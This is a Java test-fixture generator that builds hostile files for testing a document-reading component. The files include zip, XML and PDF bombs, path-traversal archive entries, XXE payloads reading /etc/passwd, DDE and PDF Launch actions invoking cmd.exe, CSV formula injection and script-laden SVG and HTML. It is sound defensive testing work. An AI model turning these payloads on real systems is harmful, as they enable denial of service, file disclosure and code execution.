package org.rapporteur.evidence.reading;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.LinkedHashMap;
import java.util.Map;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/** Files that were made to do harm to whoever reads them: written here, each time anew, and never kept. */
final class HostileFiles {

    private static final int MEGABYTE = 1 << 20;
    private static final String CONTENT_TYPES = "<?xml version='1.0'?><Types xmlns='http://schemas.openxmlformats.org/package/2006/content-types'><Default Extension='rels' ContentType='application/vnd.openxmlformats-package.relationships+xml'/>"
            + "<Default Extension='xml' ContentType='application/xml'/><Override PartName='/%s' ContentType='application/vnd.openxmlformats-officedocument.%s.main+xml'/></Types>";
    private static final String RELATIONSHIPS = "<?xml version='1.0'?><Relationships xmlns='http://schemas.openxmlformats.org/package/2006/relationships'>%s</Relationships>";
    private static final String OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/";
    private static final String WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";

    interface Bytes {
        byte[] make() throws IOException;
    }

    private HostileFiles() {
    }

    /** By their names. @param canary where nobody may call */
    static Map<String, Bytes> all(int canary) {
        var files = new LinkedHashMap<String, Bytes>();
        archives(files);
        markup(files, "http://127.0.0.1:" + canary + "/called");
        office(files);
        documents(files);
        images(files);
        texts(files);
        liars(files);
        return files;
    }

    private static void archives(Map<String, Bytes> files) {
        files.put("flat-bomb.zip", () -> zip(Map.of("zeros.txt", zeros(200))));
        files.put("double.txt.gz.gz", () -> gzip(gzip(zeros(200))));
        files.put("tree-bomb.zip", () -> {
            var inside = zip(Map.of("zeros.txt", zeros(10)));
            for (var level = 0; level < 3; level++) {
                inside = repeated(inside, 10, level + ".zip");
            }
            return inside;
        });
        files.put("overlapping.zip", () -> overlapping(5_000));
        files.put("60000-entries.zip", () -> repeated(new byte[0], 60_000, ".txt"));
        files.put("150-levels.zip", () -> {
            var inside = utf8("at the bottom");
            for (var level = 0; level < 150; level++) {
                inside = zip(Map.of(level == 0 ? "bottom.txt" : level + ".zip", inside));
            }
            return inside;
        });
        files.put("names.zip", () -> {
            var entries = new LinkedHashMap<String, byte[]>();
            for (var name : new String[] {"../../../../etc/cron.d/loot", "/etc/passwd", "C:\\Windows\\System32\\loot.dll", "..\\..\\loot.txt", "a\0b.txt", "invoice\u202Efdp.exe", "line\nbreak\r.txt", "CON", " ", ".",
                    "x".repeat(300) + ".txt", "y".repeat(60_000), "\u001B[2Jscreen.txt", "~/loot", "<script>alert(1)</script>.html", "' or 1=1 --.txt", "\uFEFFbom.txt"}) {
                entries.put(name, utf8("loot"));
            }
            return zip(entries);
        });
        files.put("lying-size.zip", () -> patched(zip(Map.of("a.txt", utf8("short"))), 22, new byte[] {-1, -1, -1, 0x7F}));
        files.put("cut.zip", () -> Arrays.copyOf(repeated(utf8("words"), 100, ".txt"), 3_000));
        files.put("locked.zip", () -> flagged(zip(Map.of("secret.txt", utf8("nobody reads this")))));
        files.put("links.tar", () -> concat(tarEntry("passwd", '2', "/etc/passwd", 0), tarEntry("hard", '1', "../../etc/shadow", 0), tarEntry("device", '3', "", 0), tarEntry("pipe", '6', "", 0), tarEntry("../../loot", '0', "", 0), new byte[1024]));
        files.put("lying-size.tar", () -> concat(tarEntry("huge", '0', "", 077777777777L), new byte[1024]));
        files.put("cyclic-link.tar", () -> concat(tarEntry("a", '2', "b", 0), tarEntry("b", '2', "a", 0), new byte[1024]));
        files.put("trailing.gz", () -> concat(gzip(utf8("words")), random(50_000)));
        files.put("random.7z", () -> concat(new byte[] {'7', 'z', (byte) 0xBC, (byte) 0xAF, 0x27, 0x1C, 0, 4}, random(20_000)));
        files.put("random.rar", () -> concat(utf8("Rar!\u001A\u0007\0"), random(20_000)));
        files.put("random.cab", () -> concat(utf8("MSCF\0\0\0\0"), random(20_000)));
        files.put("random.bz2", () -> concat(utf8("BZh91AY&SY"), random(20_000)));
        files.put("random.xz", () -> concat(new byte[] {(byte) 0xFD, '7', 'z', 'X', 'Z', 0, 0, 4}, random(20_000)));
        files.put("garbage.cpio", () -> concat(utf8("070701" + "FFFFFFFF".repeat(13)), random(2_000)));
        files.put("garbage.ar", () -> utf8("!<arch>\n" + "x".repeat(48) + "9999999999`\n" + "y".repeat(100)));
    }

    private static void markup(Map<String, Bytes> files, String outside) {
        files.put("laughs.xml", () -> utf8(laughs()));
        files.put("quadratic.xml", () -> utf8("<!DOCTYPE a [<!ENTITY e \"" + "x".repeat(100_000) + "\">]><a>" + "&e;".repeat(100_000) + "</a>"));
        files.put("entity.xml", () -> utf8("<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\"><!ENTITY f SYSTEM \"" + outside + "\">]><a>&e;&f;</a>"));
        files.put("parameter.xml", () -> utf8("<!DOCTYPE a [<!ENTITY % p SYSTEM \"" + outside + "\">%p;]><a/>"));
        files.put("dtd.xml", () -> utf8("<!DOCTYPE a SYSTEM \"" + outside + "\"><a>text</a>"));
        files.put("include.xml", () -> utf8("<a xmlns:xi='http://www.w3.org/2001/XInclude'><xi:include href='file:///etc/passwd' parse='text'/><xi:include href='" + outside + "'/></a>"));
        files.put("stylesheet.xml", () -> utf8("<?xml-stylesheet type='text/xsl' href='" + outside + "'?><a>text</a>"));
        files.put("entity.svg", () -> utf8("<!DOCTYPE svg [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><svg xmlns='http://www.w3.org/2000/svg'><text>&e;</text><image href='" + outside + "'/><script>fetch('" + outside + "')</script></svg>"));
        files.put("deep.xml", () -> utf8("<a>".repeat(200_000) + "</a>".repeat(200_000)));
        files.put("attributes.xml", () -> {
            var text = new StringBuilder("<a");
            for (var i = 0; i < 200_000; i++) {
                text.append(" a").append(i).append("=''");
            }
            return utf8(text + "/>");
        });
        files.put("one-line.html", () -> utf8("<html><body>" + "word ".repeat(2 * MEGABYTE) + "</body></html>"));
        files.put("deep.html", () -> utf8("<html><body>" + "<div><b><i>".repeat(100_000) + "text"));
        files.put("unclosed.html", () -> utf8("<html><body><a href=\"" + "x".repeat(5 * MEGABYTE)));
        files.put("tables.html", () -> utf8("<table><tr><td>".repeat(30_000)));
        files.put("script.html", () -> utf8("<html><head><meta http-equiv=refresh content='0;" + outside + "'></head><body onload=\"fetch('" + outside + "')\"><script src='" + outside + "'></script><iframe src='" + outside + "'></iframe>text</body></html>"));
        files.put("charset.html", () -> utf8("<html><head><meta charset='x-" + "y".repeat(100_000) + "'></head><body>text</body></html>"));
    }

    private static void office(Map<String, Bytes> files) {
        files.put("bomb.docx", () -> docx("<w:p><w:r><w:t>" + "A".repeat(1_000) + "</w:t></w:r></w:p>", 150_000));
        files.put("laughs.docx", () -> office("word/document.xml", "wordprocessingml.document", laughs()));
        files.put("entity.docx", () -> office("word/document.xml", "wordprocessingml.document", "<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><w:document xmlns:w='" + WORD + "'><w:body><w:p><w:r><w:t>&e;</w:t></w:r></w:p></w:body></w:document>"));
        files.put("deep-tables.docx", () -> office("word/document.xml", "wordprocessingml.document", "<w:document xmlns:w='" + WORD + "'><w:body>" + "<w:tbl><w:tr><w:tc>".repeat(20_000) + "<w:p/>" + "</w:tc></w:tr></w:tbl>".repeat(20_000) + "</w:body></w:document>"));
        files.put("itself.docx", () -> {
            var document = "<w:document xmlns:w='" + WORD + "' xmlns:r='" + OFFICE.replaceAll("/$", "") + "'><w:body><w:altChunk r:id='r1'/><w:p><w:r><w:t>text</w:t></w:r></w:p></w:body></w:document>";
            return office("word/document.xml", "wordprocessingml.document", document, Map.of("word/_rels/document.xml.rels", utf8(RELATIONSHIPS.formatted("<Relationship Id='r1' Type='" + OFFICE + "aFChunk' Target='document.xml'/>"))));
        });
        files.put("elsewhere.docx", () -> office("word/document.xml", "wordprocessingml.document", "<w:document xmlns:w='" + WORD + "'><w:body><w:p><w:r><w:instrText>DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\windows\\\\system32\\\\cmd.exe</w:instrText></w:r></w:p></w:body></w:document>",
                Map.of("word/_rels/document.xml.rels", utf8(RELATIONSHIPS.formatted("<Relationship Id='r1' Type='" + OFFICE + "oleObject' Target='http://example.org/loot' TargetMode='External'/>")))));
        files.put("rows.xlsx", () -> xlsx("<row r='1'><c r='XFD1048576' t='inlineStr'><is><t>far</t></is></c></row>".repeat(200_000)));
        files.put("huge-cell.xlsx", () -> xlsx("<row r='1'><c r='A1' t='inlineStr'><is><t>" + "x".repeat(30 * MEGABYTE) + "</t></is></c></row>"));
        files.put("strings.xlsx", () -> xlsx("<row r='1'><c r='A1' t='s'><v>2147483647</v></c><c r='B1' t='s'><v>-1</v></c></row>"));
        files.put("no-types.docx", () -> zip(Map.of("word/document.xml", utf8("<a/>"))));
        files.put("cyclic-fat.doc", () -> ole(true));
        files.put("random.doc", () -> concat(ole(false), random(50_000)));
        files.put("braces.rtf", () -> utf8("{\\rtf1" + "{".repeat(500_000) + "text" + "}".repeat(500_000) + "}"));
        files.put("binary.rtf", () -> utf8("{\\rtf1 \\bin2147483647 text}"));
        files.put("object.rtf", () -> utf8("{\\rtf1{\\*\\template http://example.org/loot.dotm}{\\object\\objautlink\\objupdate{\\*\\objdata " + "d0cf11e0a1b11ae1".repeat(2_000) + "}}text}"));
        files.put("unicode.rtf", () -> utf8("{\\rtf1 " + "\\u99999999?\\uc999999 ".repeat(50_000) + "}"));
        files.put("section.hwpx", () -> {
            var entries = new LinkedHashMap<String, byte[]>();
            entries.put("mimetype", utf8("application/hwp+zip"));
            entries.put("Contents/section0.xml", utf8("<a>" + "<p><t>가</t></p>".repeat(3 * MEGABYTE) + "</a>"));
            return zip(entries);
        });
    }

    private static void documents(Map<String, Bytes> files) {
        files.put("expanding.pdf", () -> {
            var objects = new LinkedHashMap<Integer, String>();
            objects.put(3, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Resources<</XObject<</X 10 0 R>>>>/Contents 4 0 R>>");
            objects.put(4, stream("", utf8("/X Do")));
            for (var i = 10; i < 36; i++) {
                objects.put(i, stream("/Type/XObject/Subtype/Form/BBox[0 0 1 1]/Resources<</XObject<</X " + (i + 1) + " 0 R>>>>", utf8("/X Do /X Do")));
            }
            objects.put(36, stream("/Type/XObject/Subtype/Form/BBox[0 0 1 1]", utf8("q Q")));
            return pdf(objects);
        });
        files.put("pages-of-itself.pdf", () -> pdf(Map.of(2, "<</Type/Pages/Kids[2 0 R 2 0 R]/Count 2>>")));
        files.put("many-pages.pdf", () -> pdf(Map.of(2, "<</Type/Pages/Kids[3 0 R]/Count 2147483647>>", 3, page(4), 4, stream("", utf8("BT ET")))));
        files.put("xref-of-itself.pdf", () -> utf8("%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\nxref\n0 1\n0000000000 65535 f \ntrailer<</Root 1 0 R/Size 3/Prev 47>>\nstartxref\n47\n%%EOF"));
        files.put("objects-of-themselves.pdf", () -> pdf(Map.of(3, page(4), 4, stream("", utf8("BT ET")), 5, stream("/Type/ObjStm/N 2147483647/First 10/Extends 5 0 R", utf8("5 0 6 0")))));
        files.put("stream-bomb.pdf", () -> pdf(Map.of(3, page(4), 4, stream("/Filter/FlateDecode", deflated(zeros(200))))));
        files.put("filters.pdf", () -> {
            var data = zeros(50);
            var names = new StringBuilder();
            for (var i = 0; i < 5; i++) {
                data = deflated(data);
                names.append("/FlateDecode");
            }
            return pdf(Map.of(3, page(4), 4, stream("/Filter[" + names + "]", data)));
        });
        files.put("jbig2.pdf", () -> pdf(Map.of(3, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Resources<</XObject<</X 5 0 R>>>>/Contents 4 0 R>>", 4, stream("", utf8("/X Do")),
                5, stream("/Type/XObject/Subtype/Image/Width 60000/Height 60000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/JBIG2Decode", random(5_000)))));
        files.put("jpx.pdf", () -> pdf(Map.of(3, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Resources<</XObject<</X 5 0 R>>>>/Contents 4 0 R>>", 4, stream("", utf8("/X Do")),
                5, stream("/Type/XObject/Subtype/Image/Width 60000/Height 60000/Filter/JPXDecode", random(5_000)))));
        files.put("deep.pdf", () -> pdf(Map.of(3, page(4), 4, stream("", utf8("BT ET")), 5, "[".repeat(100_000) + "]".repeat(100_000))));
        files.put("box.pdf", () -> pdf(Map.of(3, "<</Type/Page/Parent 2 0 R/MediaBox[-2147483648 -2147483648 2147483647 2147483647]/Contents 4 0 R>>", 4, stream("", utf8("BT ET")))));
        files.put("font-of-itself.pdf", () -> pdf(Map.of(3, "<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Resources<</Font<</F 5 0 R>>>>/Contents 4 0 R>>", 4, stream("", utf8("BT /F 12 Tf (text) Tj ET")),
                5, "<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[5 0 R]/ToUnicode 6 0 R>>",
                6, stream("", utf8("1 beginbfrange <0000> <FFFFFFFF> <0041> endbfrange ".repeat(2_000))))));
        files.put("names-of-themselves.pdf", () -> pdf(Map.of(1, "<</Type/Catalog/Pages 2 0 R/Names<</EmbeddedFiles 7 0 R/JavaScript 7 0 R>>/Outlines 8 0 R>>", 3, page(4), 4, stream("", utf8("BT ET")),
                7, "<</Kids[7 0 R 7 0 R]>>", 8, "<</Type/Outlines/First 8 0 R/Last 8 0 R/Next 8 0 R/Title(x)>>")));
        files.put("actions.pdf", () -> pdf(Map.of(1, "<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))/Next<</S/Launch/F(cmd.exe)>>>>>>", 3, page(4), 4, stream("", utf8("BT ET")))));
        files.put("xfa.pdf", () -> pdf(Map.of(1, "<</Type/Catalog/Pages 2 0 R/AcroForm<</XFA 5 0 R/Fields[]>>>>", 3, page(4), 4, stream("", utf8("BT ET")),
                5, stream("", utf8("<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><xdp:xdp xmlns:xdp='http://ns.adobe.com/xdp/'><a>&e;</a></xdp:xdp>")))));
        files.put("cut.pdf", () -> Arrays.copyOf(pdf(Map.of(3, page(4), 4, stream("", utf8("BT ET".repeat(500))))), 1_500));
        files.put("empty.pdf", () -> new byte[0]);
        files.put("head.pdf", () -> utf8("%PDF-1.7\n"));
        files.put("random.pdf", () -> concat(utf8("%PDF-1.7\n"), random(300_000)));
    }

    private static void images(Map<String, Bytes> files) {
        files.put("pixels.png", () -> png(60_000, 60_000));
        files.put("pixels.bmp", () -> bytes(54, order -> order.put((byte) 'B').put((byte) 'M').putInt(54).putInt(0).putInt(54).putInt(40).putInt(2_000_000_000).putInt(2_000_000_000).putShort((short) 1).putShort((short) 24)));
        files.put("pixels.gif", () -> concat(utf8("GIF89a"), new byte[] {-1, -1, -1, -1, (byte) 0xF7, 0, 0}, new byte[768], utf8(",\0\0\0\0"), new byte[] {-1, -1, -1, -1, 0, 8, 1, 0, 0, ';'}));
        files.put("pixels.webp", () -> concat(utf8("RIFF"), new byte[] {-1, -1, -1, 0x7F}, utf8("WEBPVP8X"), new byte[] {10, 0, 0, 0, 0x10, 0, 0, 0, -1, -1, -1, -1, -1, -1}));
        files.put("pixels.jp2", () -> concat(new byte[] {0, 0, 0, 12, 'j', 'P', ' ', ' ', 13, 10, (byte) 0x87, 10, 0, 0, 0, 20, 'f', 't', 'y', 'p', 'j', 'p', '2', ' ', 0, 0, 0, 0, 'j', 'p', '2', ' ', 0, 0, 0, 45, 'j', 'p', '2', 'h', 0, 0, 0, 22, 'i', 'h', 'd', 'r', 127, -1, -1, -1, 127, -1, -1, -1}, random(100)));
        files.put("pixels.tiff", () -> tiff(60_000, 0));
        files.put("frames-of-themselves.tiff", () -> tiff(10, 8));
        files.put("pixels.jpg", () -> concat(new byte[] {-1, -40, -1, -64, 0, 17, 8, -1, -1, -1, -1, 3, 1, 0x22, 0, 2, 0x11, 1, 3, 0x11, 1}, random(500)));
        files.put("exif-of-itself.jpg", () -> concat(new byte[] {-1, -40, -1, -31, 0, 100}, utf8("Exif\0\0"), tiff(10, 8), new byte[] {-1, -39}));
        files.put("pixels.psd", () -> concat(utf8("8BPS\0\u0001\0\0\0\0\0\0\0\u0003"), new byte[] {127, -1, -1, -1, 127, -1, -1, -1, 0, 8, 0, 3, 127, -1, -1, -1}, random(100)));
        files.put("random.emf", () -> concat(new byte[] {1, 0, 0, 0, 108, 0, 0, 0}, new byte[32], utf8(" EMF"), random(5_000)));
        files.put("script.svg", () -> utf8("<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><foreignObject><iframe src='javascript:alert(1)'/></foreignObject><text>text</text></svg>"));
    }

    private static void texts(Map<String, Bytes> files) {
        files.put("one-letter.txt", () -> utf8("a".repeat(20 * MEGABYTE)));
        files.put("backtracking.txt", () -> utf8(("<" + "a ".repeat(50_000) + "\n").repeat(20)));
        files.put("surrogates.txt", () -> new String(new char[] {0xFEFF, 0xD800, 0xDC00, 0xD800, 'a', 0xDFFF, 0xFFFE, 0}).repeat(10_000).getBytes(StandardCharsets.UTF_16LE));
        files.put("marks.txt", () -> utf8("Z" + "\u0335\u0489\u202E".repeat(200_000)));
        files.put("commas.csv", () -> utf8("a," + ",".repeat(3_000_000) + "\n=cmd|'/c calc'!A1"));
        files.put("deep.json", () -> utf8("[".repeat(2_000_000)));
        files.put("500-levels.eml", () -> {
            var mail = "Subject: bottom\r\n\r\nat the bottom\r\n";
            for (var i = 0; i < 500; i++) {
                mail = "Subject: " + i + "\r\nContent-Type: message/rfc822\r\n\r\n" + mail;
            }
            return utf8(mail);
        });
        files.put("parts.eml", () -> utf8("Content-Type: multipart/mixed; boundary=x\r\n\r\n" + "--x\r\nContent-Type: text/plain\r\n\r\npart\r\n".repeat(20_000) + "--x--\r\n"));
        files.put("boundaries.eml", () -> {
            var text = new StringBuilder();
            for (var i = 0; i < 2_000; i++) {
                text.append("Content-Type: multipart/mixed; boundary=b").append(i).append("\r\n\r\n--b").append(i).append("\r\n");
            }
            return utf8("From: a@example.org\r\n" + text + "\r\ntext");
        });
        files.put("header.eml", () -> utf8("Subject: " + "x".repeat(5 * MEGABYTE) + "\r\nFrom: a\r\nBcc: b\r\n\r\ntext"));
        files.put("encoded.eml", () -> utf8("From: a@example.org\r\nSubject: " + "=?utf-8?B?" + "QUFB".repeat(20_000) + "?=" + " =?x?Q?".repeat(20_000) + "\r\n\r\ntext"));
        files.put("many.mbox", () -> utf8("From a@example.org Sat Nov 28 10:00:00 2026\nSubject: x\n\ntext\n\n".repeat(30_000)));
        files.put("lengths.warc", () -> utf8("WARC/1.0\r\nWARC-Type: response\r\nContent-Length: 99999999999\r\n\r\nHTTP/1.1 200 OK\r\nContent-Length: -1\r\n\r\ntext"));
    }

    /** They are not what they seem. */
    private static void liars(Map<String, Bytes> files) {
        files.put("program.pdf", () -> concat(utf8("MZ"), new byte[58], new byte[] {64, 0, 0, 0}, utf8("PE\0\0"), random(2_000)));
        files.put("shortcut.lnk", () -> concat(new byte[] {0x4C, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, (byte) 0xC0, 0, 0, 0, 0, 0, 0, 0x46}, random(500)));
        files.put("picture-and-page.gif", () -> concat(utf8("GIF89a/*"), new byte[20], utf8("*/=1;<html><script>alert(1)</script></html>")));
        files.put("pdf-and-zip.pdf", () -> concat(pdf(Map.of(3, page(4), 4, stream("", utf8("BT ET")))), zip(Map.of("loot.exe", utf8("MZ")))));
        files.put("zip-and-picture.jpg", () -> concat(new byte[] {-1, -40, -1, -32}, random(200), zip(Map.of("a.txt", utf8("text")))));
        files.put("font.ttf", () -> concat(new byte[] {0, 1, 0, 0, -1, -1, 0, 0, 0, 0, 0, 0}, random(5_000)));
        files.put("film.mp4", () -> concat(new byte[] {0, 0, 0, 24}, utf8("ftypisom"), new byte[12], new byte[] {0, 0, 0, 1}, utf8("moov"), new byte[] {127, -1, -1, -1, -1, -1, -1, -1}, random(500)));
        files.put("sound.mp3", () -> concat(utf8("ID3\u0004\0\0"), new byte[] {127, 127, 127, 127}, utf8("APIC"), new byte[] {127, 127, 127, 127, 0, 0}, random(500)));
        files.put("class.class", () -> concat(new byte[] {(byte) 0xCA, (byte) 0xFE, (byte) 0xBA, (byte) 0xBE, 0, 0, 0, 52, -1, -1}, random(500)));
        files.put("data.sqlite", () -> concat(utf8("SQLite format 3\0"), random(4_000)));
        files.put("mailbox.pst", () -> concat(utf8("!BDN"), random(10_000)));
        files.put("list.plist", () -> concat(utf8("bplist00"), random(500), new byte[] {0, 0, 0, 0, 0, 0, 8, 8, 127, -1, -1, -1, -1, -1, -1, -1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 8}));
    }

    private static String laughs() {
        var text = new StringBuilder("<!DOCTYPE a [<!ENTITY l0 \"ha\">");
        for (var i = 1; i < 30; i++) {
            text.append("<!ENTITY l").append(i).append(" \"").append(("&l" + (i - 1) + ";").repeat(10)).append("\">");
        }
        return text + "]><a>&l29;</a>";
    }

    private static byte[] office(String part, String kind, String xml) throws IOException {
        return office(part, kind, xml, Map.of());
    }

    private static byte[] office(String part, String kind, String xml, Map<String, byte[]> more) throws IOException {
        var entries = new LinkedHashMap<String, byte[]>();
        entries.put("[Content_Types].xml", utf8(CONTENT_TYPES.formatted(part, kind)));
        entries.put("_rels/.rels", utf8(RELATIONSHIPS.formatted("<Relationship Id='r1' Type='" + OFFICE + "officeDocument' Target='" + part + "'/>")));
        entries.put(part, utf8(xml));
        entries.putAll(more);
        return zip(entries);
    }

    private static byte[] docx(String paragraph, int times) throws IOException {
        return office("word/document.xml", "wordprocessingml.document", "<w:document xmlns:w='" + WORD + "'><w:body>" + paragraph.repeat(times) + "</w:body></w:document>");
    }

    private static byte[] xlsx(String rows) throws IOException {
        var main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
        return office("xl/workbook.xml", "spreadsheetml.sheet", "<workbook xmlns='" + main + "' xmlns:r='" + OFFICE.replaceAll("/$", "") + "'><sheets><sheet name='a' sheetId='1' r:id='r1'/></sheets></workbook>",
                Map.of("xl/_rels/workbook.xml.rels", utf8(RELATIONSHIPS.formatted("<Relationship Id='r1' Type='" + OFFICE + "worksheet' Target='worksheets/sheet1.xml'/>")),
                        "xl/worksheets/sheet1.xml", utf8("<worksheet xmlns='" + main + "'><sheetData>" + rows + "</sheetData></worksheet>")));
    }

    /** A compound file of one sector of table whose chains lead to themselves, or of none. */
    private static byte[] ole(boolean cyclic) {
        var file = ByteBuffer.allocate(512 * 3).order(ByteOrder.LITTLE_ENDIAN);
        file.putLong(0xE11AB1A1E011CFD0L).position(24);
        file.putShort((short) 0x3E).putShort((short) 3).putShort((short) 0xFFFE).putShort((short) 9).putShort((short) 6).position(44);
        file.putInt(1).putInt(cyclic ? 0 : 1).putInt(0).putInt(4096).putInt(cyclic ? 0 : -2).putInt(cyclic ? 1 : 0).putInt(cyclic ? 0 : -2).putInt(cyclic ? 1 : 0).putInt(0);
        for (var i = 0; i < 128; i++) {
            file.putInt(512 + 4 * i, 0);
        }
        return file.array();
    }

    private static String page(int contents) {
        return "<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents " + contents + " 0 R>>";
    }

    private static String stream(String keys, byte[] data) {
        return "<<" + keys + "/Length " + data.length + ">>stream\n" + new String(data, StandardCharsets.ISO_8859_1) + "\nendstream";
    }

    private static byte[] pdf(Map<Integer, String> objects) {
        var all = new LinkedHashMap<Integer, String>(Map.of(1, "<</Type/Catalog/Pages 2 0 R>>", 2, "<</Type/Pages/Kids[3 0 R]/Count 1>>"));
        all.putAll(objects);
        var text = new StringBuilder("%PDF-1.7\n");
        var places = new LinkedHashMap<Integer, Integer>();
        all.forEach((number, object) -> {
            places.put(number, text.length());
            text.append(number).append(" 0 obj").append(object).append("\nendobj\n");
        });
        var table = text.length();
        text.append("xref\n0 1\n0000000000 65535 f \n");
        places.forEach((number, place) -> text.append(number).append(" 1\n").append("%010d 00000 n \n".formatted(place)));
        return text.append("trailer<</Root 1 0 R/Size 100>>\nstartxref\n").append(table).append("\n%%EOF").toString().getBytes(StandardCharsets.ISO_8859_1);
    }

    private static byte[] png(int width, int height) throws IOException {
        var out = new ByteArrayOutputStream();
        out.write(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
        chunk(out, "IHDR", ByteBuffer.allocate(13).putInt(width).putInt(height).put(new byte[] {8, 6, 0, 0, 0}).array());
        chunk(out, "IDAT", deflated(zeros(20)));
        chunk(out, "zTXt", concat(utf8("Comment\0\0"), deflated(zeros(200))));
        chunk(out, "IEND", new byte[0]);
        return out.toByteArray();
    }

    private static void chunk(OutputStream out, String kind, byte[] data) throws IOException {
        var body = concat(utf8(kind), data);
        var crc = new CRC32();
        crc.update(body);
        var wrapped = new DataOutputStream(out);
        wrapped.writeInt(data.length);
        wrapped.write(body);
        wrapped.writeInt((int) crc.getValue());
    }

    private static byte[] tiff(int size, int next) {
        return bytes(200, order -> {
            order.put((byte) 'I').put((byte) 'I').putShort((short) 42).putInt(8).putShort((short) 5);
            for (var entry : new int[][] {{256, size}, {257, size}, {258, 8}, {273, 100}, {279, Integer.MAX_VALUE}}) {
                order.putShort((short) entry[0]).putShort((short) 4).putInt(1).putInt(entry[1]);
            }
            order.putInt(next);
        });
    }

    private static byte[] bytes(int size, java.util.function.Consumer<ByteBuffer> filled) {
        var buffer = ByteBuffer.allocate(size).order(ByteOrder.LITTLE_ENDIAN);
        filled.accept(buffer);
        return buffer.array();
    }

    private static byte[] tarEntry(String name, char kind, String link, long size) {
        var block = new byte[512];
        put(block, 0, name);
        put(block, 100, "0000644\0" + "0000000\0" + "0000000\0" + "%011o".formatted(size) + "\0" + "00000000000\0" + "        " + kind + link);
        put(block, 257, "ustar\0" + "00");
        var sum = 0;
        for (var each : block) {
            sum += each & 0xFF;
        }
        put(block, 148, "%06o\0 ".formatted(sum));
        return block;
    }

    private static void put(byte[] block, int at, String text) {
        var bytes = utf8(text);
        System.arraycopy(bytes, 0, block, at, bytes.length);
    }

    /** One compressed entry that the directory names again and again. */
    private static byte[] overlapping(int times) throws IOException {
        var one = zip(Map.of("a.txt", zeros(1)));
        var directory = ByteBuffer.wrap(one).order(ByteOrder.LITTLE_ENDIAN).getInt(one.length - 6);
        var entry = Arrays.copyOfRange(one, directory, one.length - 22);
        var out = new ByteArrayOutputStream();
        out.write(one, 0, directory);
        for (var i = 0; i < times; i++) {
            out.write(entry);
        }
        var end = ByteBuffer.wrap(Arrays.copyOfRange(one, one.length - 22, one.length)).order(ByteOrder.LITTLE_ENDIAN);
        end.putShort(8, (short) times).putShort(10, (short) times).putInt(12, times * entry.length);
        out.write(end.array());
        return out.toByteArray();
    }

    private static byte[] repeated(byte[] inside, int times, String suffix) throws IOException {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            zip.setLevel(9);
            for (var i = 0; i < times; i++) {
                zip.putNextEntry(new ZipEntry(i + suffix));
                zip.write(inside);
                zip.closeEntry();
            }
        }
        return out.toByteArray();
    }

    /** The bit that says that an entry is encrypted, in both places. */
    private static byte[] flagged(byte[] zip) {
        zip[6] |= 1;
        var directory = ByteBuffer.wrap(zip).order(ByteOrder.LITTLE_ENDIAN).getInt(zip.length - 6);
        zip[directory + 8] |= 1;
        return zip;
    }

    private static byte[] patched(byte[] file, int at, byte[] with) {
        System.arraycopy(with, 0, file, at, with.length);
        return file;
    }

    static byte[] zip(Map<String, byte[]> entries) throws IOException {
        var out = new ByteArrayOutputStream();
        try (var zip = new ZipOutputStream(out)) {
            for (var entry : entries.entrySet()) {
                zip.putNextEntry(new ZipEntry(entry.getKey()));
                zip.write(entry.getValue());
                zip.closeEntry();
            }
        }
        return out.toByteArray();
    }

    private static byte[] gzip(byte[] inside) throws IOException {
        var out = new ByteArrayOutputStream();
        try (var gzip = new GZIPOutputStream(out)) {
            gzip.write(inside);
        }
        return out.toByteArray();
    }

    private static byte[] deflated(byte[] inside) {
        var out = new ByteArrayOutputStream();
        try (var deflating = new DeflaterOutputStream(out, new Deflater(1))) {
            deflating.write(inside);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] zeros(int megabytes) {
        return new byte[megabytes * MEGABYTE];
    }

    /** The same ones each time. */
    private static byte[] random(int size) {
        var bytes = new byte[size];
        new Random(size).nextBytes(bytes);
        return bytes;
    }

    private static byte[] concat(byte[]... parts) {
        var out = new ByteArrayOutputStream();
        for (var part : parts) {
            out.writeBytes(part);
        }
        return out.toByteArray();
    }

    private static byte[] utf8(String text) {
        return text.getBytes(StandardCharsets.UTF_8);
    }
}
